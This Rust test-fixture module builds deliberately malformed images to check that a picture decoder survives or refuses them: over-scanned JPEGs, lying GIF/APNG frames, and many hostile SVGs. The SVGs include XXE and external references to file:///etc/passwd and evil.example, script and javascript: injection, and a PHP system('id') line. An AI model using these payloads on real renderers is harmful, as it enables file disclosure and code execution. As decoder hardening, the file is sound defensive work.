//! Files that are made with care to get past a decoder: odd colours, many frames, many scans, and
//! drawings that reach for what lies outside of them.

use std::io::Cursor;

use image::codecs::gif::GifEncoder;
use image::{DynamicImage, Frame, ImageBuffer, ImageFormat, Luma, Rgba, RgbaImage};
use portico_documents::picture::PictureError;

use crate::picture_files::Fate::{Any, Drawn, Refused};
use crate::picture_files::{CANARY, File, file, sound, svg, with_chunk};

const CMYK: &[u8] = include_bytes!("../cmyk.jpg");
const PROGRESSIVE: &[u8] = include_bytes!("../progressive.jpg");

/// All of them.
pub fn odd() -> Vec<File> {
    [pixels(), frames(), references(), declarations(), circles()].concat()
}

fn written(image: &DynamicImage) -> Vec<u8> {
    let mut bytes = Cursor::new(Vec::new());
    image.write_to(&mut bytes, ImageFormat::Png).expect("a picture");
    bytes.into_inner()
}

/// Colours that few programs write, and pixels that say something.
fn pixels() -> Vec<File> {
    let deep = ImageBuffer::from_fn(32, 16, |x, y| Rgba([x as u16 * 2_000, y as u16, 9, u16::MAX]));
    let grey = ImageBuffer::from_fn(32, 16, |x, _| Luma([x as u16 * 2_000]));
    // No packer makes these shorter, so that they might be stored as they are.
    let text = format!("<script>{CANARY}</script>");
    let mut seed = 7_u32;
    let mut noise = RgbaImage::from_fn(96, 96, |_, _| {
        seed = seed.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        let [a, b, c, _] = seed.to_be_bytes();
        Rgba([a, b, c, a ^ b])
    });
    for row in noise.chunks_exact_mut(96 * 4) {
        row[..text.len()].copy_from_slice(text.as_bytes());
    }
    vec![
        file("JPEG of four inks", CMYK, Drawn),
        file("JPEG of many passes", PROGRESSIVE, Drawn),
        file("JPEG of 40 passes", passes(256, 40), Drawn),
        file("JPEG of 500 passes", passes(256, 500), Refused(PictureError::Damaged)),
        file("large JPEG of 40 passes", passes(4_000, 40), Refused(PictureError::TooComplex)),
        file("PNG of 16 bits a colour", written(&DynamicImage::ImageRgba16(deep)), Drawn),
        file("PNG of 16 bits of grey", written(&DynamicImage::ImageLuma16(grey)), Drawn),
        file("PNG of noise that has a script", written(&DynamicImage::ImageRgba8(noise)), Drawn),
        file("PNG with a second header", with_chunk(b"IHDR", &[0xff; 13]), Any),
        file("PNG with a palette of nothing", with_chunk(b"PLTE", &[]), Any),
    ]
}

/// A JPEG whose last pass comes again and again, each over all of a larger picture.
fn passes(side: u16, count: usize) -> Vec<u8> {
    let mut head = PROGRESSIVE.to_vec();
    let frame = head.windows(2).position(|pair| pair == [0xff, 0xc2]).expect("a frame header");
    head[frame + 5..frame + 9].copy_from_slice(&[side.to_be_bytes(); 2].concat());
    let last = head.windows(2).rposition(|pair| pair == [0xff, 0xda]).expect("a pass");
    let pass = head[last..head.len() - 2].to_vec();
    head.truncate(last);
    let room = portico_documents::picture::MAX_BYTES - head.len() - 2;
    for _ in 0..count.min(room / pass.len()) {
        head.extend(&pass);
    }
    head.extend([0xff, 0xd9]);
    head
}

/// Pictures that move.
fn frames() -> Vec<File> {
    let mut moving = Vec::new();
    let mut encoder = GifEncoder::new(&mut moving);
    let frames = (0..500_u32)
        .map(|n| Frame::new(RgbaImage::from_pixel(8, 8, Rgba([n as u8, 0, (n >> 8) as u8, 255]))));
    encoder.encode_frames(frames).expect("a moving picture");
    drop(encoder);
    let mut wide = sound(ImageFormat::Gif);
    let frame = wide.windows(5).rposition(|it| it == [0x2c, 0, 0, 0, 0]).expect("a frame");
    wide[frame + 5..frame + 9].fill(0xff);
    let many = [u32::MAX.to_be_bytes(), 0_u32.to_be_bytes()].concat();
    vec![
        file("GIF of 500 frames", moving, Drawn),
        file("GIF whose frame is larger than it", wide, Any),
        file("PNG that says it has 2^32 frames", with_chunk(b"acTL", &many), Any),
        file("PNG with a frame outside of it", with_chunk(b"fcTL", &[0xff; 26]), Any),
    ]
}

/// Drawings that name something that is not in them.
fn references() -> Vec<File> {
    let elsewhere = [
        "<rect style='fill:url(file:///etc/passwd#x)' width='9' height='9'/>",
        "<style>rect{fill:url(https://evil.example/a.svg#x)}</style>",
        "<style>@namespace x url(https://evil.example);</style>",
        "<linearGradient id='g' href='https://evil.example/a.svg#x'/><rect fill='url(#g)'/>",
        "<text><textPath href='https://evil.example/a.svg#x'>Acme</textPath></text>",
        "<text><tref xlink:href='file:///etc/passwd#x'/></text>",
        "<font-face><font-face-src><font-face-uri href='//evil.example/f'/></font-face-src>\
         </font-face>",
        "<cursor xlink:href='https://evil.example/c'/>",
        "<g xml:base='https://evil.example/'><use href='a.svg#x'/></g>",
        "<use href='data:image/svg+xml;base64,PHN2ZyBpZD0neCcvPg==#x'/>",
        "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' \
         parse='text'/>",
        "<switch><foreignObject><iframe src='https://evil.example'/></foreignObject></switch>",
        "<h:iframe xmlns:h='http://www.w3.org/1999/xhtml' src='file:///etc/passwd'/>",
        "<video href='https://evil.example/v'/><audio href='https://evil.example/a'/>",
        "<color-profile xlink:href='https://evil.example/p.icc'/>",
        "<discard href='https://evil.example/'/><mpath href='//evil.example/#x'/>",
    ];
    let running = [
        format!("<set attributeName='onload' to='{CANARY}'/>"),
        format!("<h:script xmlns:h='http://www.w3.org/1999/xhtml'>{CANARY}</h:script>"),
        format!("<script type='text/ecmascript'><![CDATA[{CANARY}]]></script>"),
        format!("<script xlink:href='data:text/javascript,{CANARY}'/>"),
        format!("<handler type='text/ecmascript' ev:event='load' xmlns:ev='e'>{CANARY}</handler>"),
        format!("<desc>&#x3c;script&#x3e;{CANARY}</desc><metadata>{CANARY}</metadata>"),
        format!("<style>rect{{fill:expression({CANARY})}}</style>"),
        format!("<a xlink:href='&#106;avascript&#58;{CANARY}'><text>Acme</text></a>"),
    ];
    let elsewhere = elsewhere.into_iter().map(str::to_owned);
    let drawn = |inner: String| file(&format!("SVG with {inner}"), svg(&inner), Drawn);
    elsewhere.chain(running).map(drawn).collect()
}

/// What stands before a drawing.
fn declarations() -> Vec<File> {
    let entity = Refused(PictureError::Unsupported("!ENTITY"));
    [
        (r#"<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">"#, Any),
        (r#"<!DOCTYPE svg SYSTEM "file:///etc/passwd">"#, Any),
        (r#"<!DOCTYPE svg PUBLIC "x" "file:///dev/zero">"#, Any),
        (r#"<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>"#, entity),
        (r#"<!DOCTYPE svg [ <!ENTITY&#32;x "y"> ]>"#, entity),
        ("<!DOCTYPE svg [<!-- > ]> --><!ENTITY x 'y'>]>", entity),
        ("<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'x'>]>", Any),
        ("<?xml version='1.0' encoding='UTF-7'?>", Any),
        ("<?xml version='1.0' encoding='UTF-16'?>", Any),
        ("<?xml version='1.1'?>", Any),
        ("<?php system('id'); ?>", Any),
        ("\u{feff}", Any),
    ]
    .into_iter()
    .map(|(head, fate)| file(&format!("{head} before an SVG"), head.to_owned() + &svg(""), fate))
    .collect()
}

/// Small drawings that lead back to themselves, or far away.
fn circles() -> Vec<File> {
    let marks = format!("<text>Z{}</text>", "\u{301}".repeat(9_000));
    let drawings = [
        "<linearGradient id='a' href='#b'/><linearGradient id='b' href='#a'/>\
         <rect fill='url(#a)' width='9' height='9'/>",
        "<clipPath id='a' clip-path='url(#b)'><rect/></clipPath>\
         <clipPath id='b' clip-path='url(#a)'><rect/></clipPath><g clip-path='url(#a)'><rect/></g>",
        "<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>",
        "<path id='p' d='M0 0h9'/><text><textPath href='#p'><textPath href='#p'>x</textPath>\
         </textPath></text>",
        "<rect width='9' height='9' transform='scale(1e30) rotate(1e30) skewX(89.999)'/>",
        "<rect width='9' height='9' transform='matrix(NaN 0 0 inf 1e400 0)'/>",
        "<path d='M0 0 A1e9 1e-9 45 1 1 1e30 1e30 Z' stroke-width='1e30' stroke='red'/>",
        "<circle r='1e38' stroke='red' stroke-dasharray='1e-38 1e38'/>",
        "<text font-size='1e9' letter-spacing='1e9' x='-1e9'>Acme</text>",
        "<text textLength='1e9' lengthAdjust='spacingAndGlyphs'>Acme</text>",
        "<text direction='rtl'>\u{202e}\u{2066}\u{2067}\u{fdfd}</text>",
        marks.as_str(),
    ];
    let named = |inner: &str| inner.chars().take(60).collect::<String>();
    let any = |inner: &str| file(&format!("SVG with {}", named(inner)), svg(inner), Any);
    drawings.into_iter().map(any).collect()
}
